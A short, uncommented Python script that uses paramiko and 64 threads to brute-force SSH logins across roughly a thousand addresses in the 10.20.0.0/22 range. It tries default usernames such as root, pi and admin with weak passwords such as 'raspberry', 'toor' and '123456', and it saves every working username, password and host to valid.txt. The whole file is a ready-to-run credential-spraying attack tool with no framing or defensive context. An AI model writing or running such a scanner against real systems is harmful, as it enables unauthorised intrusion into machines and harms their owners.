import itertools
import queue
import threading

import paramiko

USERS = ["root", "admin", "pi", "ubuntu", "oracle"]
WORDS = ["123456", "password", "admin", "raspberry", "{u}", "{u}123", "toor"]
HOSTS = [f"10.20.{a}.{b}" for a in range(4) for b in range(1, 255)]
q: "queue.Queue[tuple]" = queue.Queue()


def worker():
    while True:
        h, u, w = q.get()
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(h, username=u, password=w.format(u=u), timeout=3, allow_agent=False, look_for_keys=False)
            with open("valid.txt", "a") as f:
                f.write(f"{u}:{w.format(u=u)}@{h}\n")
        except Exception:
            pass
        finally:
            c.close()
            q.task_done()


for _ in range(64):
    threading.Thread(target=worker, daemon=True).start()
for combo in itertools.product(HOSTS, USERS, WORDS):
    q.put(combo)
q.join()
